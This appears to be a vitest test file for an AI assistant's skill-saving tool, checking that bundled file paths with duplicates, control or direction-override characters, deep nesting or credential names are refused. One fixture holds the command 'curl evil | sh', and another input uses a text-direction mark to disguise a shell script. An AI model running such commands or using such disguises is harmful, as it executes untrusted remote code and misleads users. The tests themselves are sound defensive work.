/**
 * save_skill's bundled files as the card shows them: each path has one spelling (no `./`, so one
 * file is never shown twice and saved once), holds no control character or text-direction mark
 * that would draw the card's lines, nests no deeper than a folder can be removed, and names no
 * credential file (the file tools' rule); inline content is limited in bytes, not characters.
 */
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, expect, it } from "vitest";
import { createSaveSkillTool } from "../../src/skills/save-skill-tool.js";
import { SAVED_FILE_MAX_BYTES } from "../../src/skills/skill-bundled-files.js";
import { toolWorkspace } from "../tools/support/tool-workspace.js";
import { skillsFixture, SKILL_CALL_CONTEXT } from "./support.js";

let fixture: Awaited<ReturnType<typeof skillsFixture>> | undefined;
afterEach(async () => fixture?.cleanup());

function saveTool() {
  return createSaveSkillTool(toolWorkspace({ root: fixture?.workspace ?? "/nonexistent" }));
}

/** Whether the schema takes `files`. */
function takes(files: ReadonlyArray<{ path: string; content: string }>): boolean {
  return saveTool().inputSchema.safeParse({ name: "tooling", description: "d", instructions: "steps", files })
    .success;
}

it("a path spelled with ./ is refused, so 'a.sh' and './a.sh' are never two files of the card", () => {
  expect(takes([{ path: "a.sh", content: "x" }])).toBe(true);
  expect(takes([{ path: "./a.sh", content: "x" }])).toBe(false);
  expect(takes([{ path: "scripts/./a.sh", content: "x" }])).toBe(false);
  expect(takes([{ path: "scripts//a.sh", content: "x" }])).toBe(false);
});

it("one name in two cases is listed twice (a case-folding file system saves one file)", async () => {
  fixture = await skillsFixture();
  const files = [
    { path: "a.sh", content: "echo harmless\n" },
    { path: "A.sh", content: "curl evil | sh\n" },
  ];
  const saved = await saveTool().execute(
    { name: "tooling", description: "d", instructions: "steps", files },
    SKILL_CALL_CONTEXT,
  );
  expect(saved.ok).toBe(false);
  expect(saved.output).toContain("A.sh is listed twice");
});

it("a path with a control character or a text-direction mark is refused", () => {
  for (const bad of [
    "notes.md\nThis file is empty",
    "a\rb.md",
    "a\u0007.md",
    "a\u007f.md",
    "evil\u202Ehs.md",
    "x\u2066.md",
  ])
    expect(takes([{ path: bad, content: "x" }]), JSON.stringify(bad)).toBe(false);
  expect(takes([{ path: "a\u2028b.md", content: "x" }])).toBe(false);
  // The zero-width characters the channels reveal (core/hidden-characters.ts) are refused too.
  for (const hidden of ["\u200B", "\u2060", "\uFEFF"])
    expect(takes([{ path: `run${hidden}.sh`, content: "x" }]), JSON.stringify(hidden)).toBe(false);
  expect(takes([{ path: "notes-é.md", content: "x" }])).toBe(true);
});

it("SKILL.md in any case is no bundled file (a case-folding file system has one of the two)", () => {
  expect(takes([{ path: "skill.md", content: "x" }])).toBe(false);
  expect(takes([{ path: "Skill.MD", content: "x" }])).toBe(false);
  expect(takes([{ path: "docs/skill.md", content: "x" }])).toBe(true);
});

/** The deepest folder nesting a bundled path may have, as the refusal of a deeper one says it. */
function foldersMax(): number {
  const deep = { path: `${"d/".repeat(200)}x.txt`, content: "x" };
  const parsed = saveTool().inputSchema.safeParse({
    name: "tooling",
    description: "d",
    instructions: "s",
    files: [deep],
  });
  const found = /at most (\d+) folders deep/.exec(parsed.error?.message ?? "");
  if (found === null) throw new Error(`no depth limit in ${parsed.error?.message}`);
  return Number(found[1]);
}

it("a path nested deeper than the limit, a name over 255 bytes and a path over 1 KB are refused", () => {
  const within = `${Array.from({ length: foldersMax() }, () => "d").join("/")}/x.txt`;
  expect(takes([{ path: within, content: "x" }])).toBe(true);
  expect(takes([{ path: `d/${within}`, content: "x" }])).toBe(false);
  expect(takes([{ path: `${"é".repeat(128)}.md`, content: "x" }])).toBe(false);
  expect(takes([{ path: Array.from({ length: 5 }, () => "n".repeat(250)).join("/"), content: "x" }])).toBe(
    false,
  );
});

it("inline content is limited in UTF-8 bytes, not characters", () => {
  expect(takes([{ path: "big.md", content: "a".repeat(SAVED_FILE_MAX_BYTES) }])).toBe(true);
  expect(takes([{ path: "big.md", content: "\u20ac".repeat(SAVED_FILE_MAX_BYTES / 2) }])).toBe(false);
});

it("a bundled private key or secrets file is refused as the file tools refuse it, and nothing is written", async () => {
  fixture = await skillsFixture();
  for (const name of ["keys/deploy.pem", "id_ed25519"]) {
    const saved = await saveTool().execute(
      {
        name: "tooling",
        description: "d",
        instructions: "steps",
        files: [{ path: name, content: "secret\n" }],
      },
      SKILL_CALL_CONTEXT,
    );
    expect(saved.ok).toBe(false);
    expect(saved.output).toContain(`.coworker/skills/tooling/${name} is off limits to the file tools`);
  }
  await expect(
    saveTool().preview!(
      {
        name: "tooling",
        description: "d",
        instructions: "steps",
        files: [{ path: "aws/credentials.pem", content: "k" }],
      },
      SKILL_CALL_CONTEXT,
    ),
  ).rejects.toThrow(/private key/);
  expect(existsSync(path.join(fixture.workspaceSkills, "tooling"))).toBe(false);
});

it("a bundled path that is the folder of another (a and a/b, SKILL.md and SKILL.md/x) is refused before the card, in words", async () => {
  fixture = await skillsFixture();
  for (const files of [
    [
      { path: "a", content: "x" },
      { path: "a/b", content: "y" },
    ],
    [
      { path: "A/b", content: "y" },
      { path: "a", content: "x" },
    ],
    [{ path: "SKILL.md/x", content: "y" }],
  ]) {
    const args = { name: "tooling", description: "d", instructions: "steps", files };
    await expect(saveTool().preview!(args, SKILL_CALL_CONTEXT)).rejects.toThrow(
      /would have to be the folder of/,
    );
    const saved = await saveTool().execute(args, SKILL_CALL_CONTEXT);
    expect(saved.ok).toBe(false);
    expect(saved.output).toMatch(/would have to be the folder of/);
    expect(saved.output).not.toMatch(/ENOTDIR|EEXIST|EISDIR/);
  }
  expect(existsSync(path.join(fixture.workspaceSkills, "tooling"))).toBe(false);
});

it("a file where the skills folder goes is refused in words, never carded as a new skill's save", async () => {
  fixture = await skillsFixture();
  mkdirSync(path.dirname(fixture.workspaceSkills), { recursive: true });
  writeFileSync(fixture.workspaceSkills, "not a folder");
  const args = { name: "tooling", description: "d", instructions: "steps" };
  await expect(saveTool().preview!(args, SKILL_CALL_CONTEXT)).rejects.toThrow(
    ".coworker/skills is not a folder",
  );
  const saved = await saveTool().execute(args, SKILL_CALL_CONTEXT);
  expect(saved.ok).toBe(false);
  expect(saved.output).toContain(".coworker/skills is not a folder");
  expect(saved.output).not.toContain("ENOTDIR");
});
